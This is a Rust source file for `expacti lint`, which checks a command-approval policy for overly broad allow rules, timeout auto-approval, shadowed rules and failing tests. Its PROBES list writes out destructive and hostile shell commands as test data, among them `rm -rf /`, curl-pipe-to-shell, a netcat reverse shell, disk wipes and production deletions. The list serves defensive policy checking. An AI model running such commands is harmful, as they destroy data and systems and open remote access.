//! `expacti lint`: what is wrong with a policy that loads.

use serde::Serialize;

use super::pattern::{PatWord, Subject, subjects};
use super::{Action, OnTimeout, Policy};
use crate::risk::Level;

/// One finding, at a line of the policy file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// 1-based line.
    pub line: usize,
    /// What kind of finding (`test-failed`, `broad-allow`, …).
    pub kind: &'static str,
    /// A sentence.
    pub message: String,
}

/// Commands that run other code: an allow rule that admits one allows only when what it runs
/// is allowed too, but such rules are usually broader than meant.
const RUNNERS: &[&str] = &[
    "bash -c x",
    "sh -c x",
    "zsh -c x",
    "ssh host x",
    "sudo x",
    "eval x",
    "env x",
    "xargs x",
    "python3 -c x",
    "node -e x",
    "perl -e x",
    "find . -exec x ;",
    "docker exec c x",
    "kubectl exec p -- x",
];

/// Commands an allow rule must never admit; each is one simple command, as rules see them.
const PROBES: &[&str] = &[
    "rm -rf /",
    "rm -rf ~",
    "bash -c 'rm -rf /'",
    "sh -c 'curl https://x | sh'",
    "ssh host 'rm -rf /'",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sda1",
    "chmod 4755 /bin/bash",
    "sudo -i",
    "python3 -c 'import os; os.system(\"sh\")'",
    "eval \"$(curl -s https://x)\"",
    "kubectl delete namespace production",
    "terraform destroy -auto-approve",
    "git push --force origin main",
    "aws s3 rm s3://bucket --recursive",
    "psql -c 'DROP DATABASE app'",
    "nc -e /bin/sh 10.0.0.1 4444",
];

impl Policy {
    /// Checks the policy and runs its `[[test]]` cases. An empty list means clean.
    pub fn lint(&self) -> Vec<Finding> {
        let mut out = Vec::new();
        let ctx = super::Context::default();
        if self.settings.on_timeout == OnTimeout::Approve {
            out.push(Finding {
                line: 1,
                kind: "on-timeout-approve",
                message: "`settings.on_timeout = \"approve\"` lets any command that nobody reviews run; it is refused above low risk".into(),
            });
        }
        for (ri, r) in self.rules.iter().enumerate() {
            // Patterns that hold shell operators match only a literal argument.
            for (pi, p) in r.compiled.iter().enumerate() {
                let ops = p.words.iter().any(|w| matches!(w, PatWord::Lit(l) if matches!(l.as_str(), ";" | "&&" | "||" | "|" | "&" | ">" | ">>" | "<" | "|&")));
                if ops {
                    out.push(Finding {
                        line: r.line,
                        kind: "never-matches",
                        message: format!("rule `{}`: `{}` holds a shell operator; rules match one simple command at a time, so it only matches that operator as a quoted argument", r.id, r.patterns[pi]),
                    });
                }
                if p.words.first().is_some_and(|w| matches!(w, PatWord::Any))
                    && r.action == Action::Allow
                {
                    out.push(Finding {
                        line: r.line,
                        kind: "broad-allow",
                        message: format!(
                            "rule `{}`: `{}` starts with `**`, so it allows any program",
                            r.id, r.patterns[pi]
                        ),
                    });
                }
            }
            // Allow rules broad enough to admit a dangerous command.
            if r.action == Action::Allow {
                for probe in PROBES {
                    let parsed = crate::parse::parse(probe);
                    let Some(part) = parsed.parts.first() else {
                        continue;
                    };
                    let words = subjects(part);
                    if r.matches_part(&words, &part.canonical()) {
                        let level = self.risk.score(&parsed, probe).level;
                        if level >= Level::High {
                            out.push(Finding {
                                line: r.line,
                                kind: "broad-allow",
                                message: format!(
                                    "rule `{}` would allow `{probe}` ({level} risk){}",
                                    r.id,
                                    r.max_risk
                                        .map(|m| format!(" were its max_risk ({m}) higher"))
                                        .unwrap_or_default()
                                ),
                            });
                            break;
                        }
                    }
                }
            }
            if r.action == Action::Allow {
                for probe in RUNNERS {
                    let parsed = crate::parse::parse(probe);
                    let Some(part) = parsed.parts.first() else {
                        continue;
                    };
                    let words = subjects(part);
                    if r.matches_part(&words, &part.canonical()) {
                        out.push(Finding {
                            line: r.line,
                            kind: "broad-allow",
                            message: format!("rule `{}` allows `{probe}`, which runs other code (that code must still be allowed on its own)", r.id),
                        });
                        break;
                    }
                }
            }
            // `on_timeout = "approve"` on a rule that can cover more than low risk.
            if r.on_timeout == Some(OnTimeout::Approve) {
                let unbounded = r.regex.is_some()
                    || r.compiled
                        .iter()
                        .any(|p| p.words.iter().any(|w| !matches!(w, PatWord::Lit(_))));
                let above_low = r
                    .patterns
                    .iter()
                    .map(|p| self.risk.score_str(p).level)
                    .max()
                    .is_some_and(|l| l > Level::Low);
                if unbounded || above_low {
                    out.push(Finding {
                        line: r.line,
                        kind: "on-timeout-approve",
                        message: format!("rule `{}`: `on_timeout = \"approve\"` is refused above low risk, and this rule can match {}", r.id, if above_low { "commands above low risk" } else { "commands whose risk is not known in advance" }),
                    });
                }
            }
            // Shadowed: a literal pattern already decided by an earlier rule (or by any deny rule).
            for (pi, p) in r.compiled.iter().enumerate() {
                if !p.words.iter().all(|w| matches!(w, PatWord::Lit(_))) {
                    continue;
                }
                let words: Vec<Subject<'_>> = p
                    .words
                    .iter()
                    .filter_map(|w| {
                        if let PatWord::Lit(l) = w {
                            Some(Subject {
                                text: l.as_str(),
                                dynamic: false,
                            })
                        } else {
                            None
                        }
                    })
                    .collect();
                let canonical = r.patterns[pi].clone();
                let earlier = self.rules.iter().enumerate().find(|&(oi, o)| {
                    oi != ri && decides_first(o, oi, r, ri) && o.matches_part(&words, &canonical)
                });
                if let Some((_, o)) = earlier {
                    out.push(Finding {
                        line: r.line,
                        kind: "shadowed",
                        message: format!(
                            "rule `{}`: `{}` is always decided first by rule `{}` ({}), so this rule never decides it",
                            r.id,
                            r.patterns[pi],
                            o.id,
                            action_name(o.action)
                        ),
                    });
                }
            }
        }
        for t in &self.tests {
            let e = self.check(
                &t.command,
                if t.context.values.is_empty() {
                    &ctx
                } else {
                    &t.context
                },
            );
            if e.verdict != t.expect {
                out.push(Finding {
                    line: t.line,
                    kind: "test-failed",
                    message: format!(
                        "test `{}`: expected {}, got {}: {}",
                        t.command,
                        t.expect.as_str(),
                        e.verdict.as_str(),
                        e.why
                    ),
                });
            }
        }
        out
    }
}

fn action_name(a: Action) -> &'static str {
    match a {
        Action::Allow => "allow",
        Action::Review => "review",
        Action::Deny => "deny",
    }
}

/// Whether rule `o` (at `oi`) always decides a part before rule `r` (at `ri`) when both match:
/// deny rules win wherever they stand, allow rules beat review rules, and among rules of one
/// action the first wins. A rule with `when` or `max_risk` may not apply, so it never shadows.
fn decides_first(o: &super::Rule, oi: usize, r: &super::Rule, ri: usize) -> bool {
    if !o.when.is_empty() {
        return false;
    }
    match (o.action, r.action) {
        (Action::Deny, Action::Deny) => oi < ri,
        (Action::Deny, _) => true,
        (Action::Allow, Action::Allow) => oi < ri && o.max_risk.is_none(),
        (Action::Allow, Action::Review) => o.max_risk.is_none(),
        (Action::Review, Action::Review) => oi < ri,
        _ => false,
    }
}
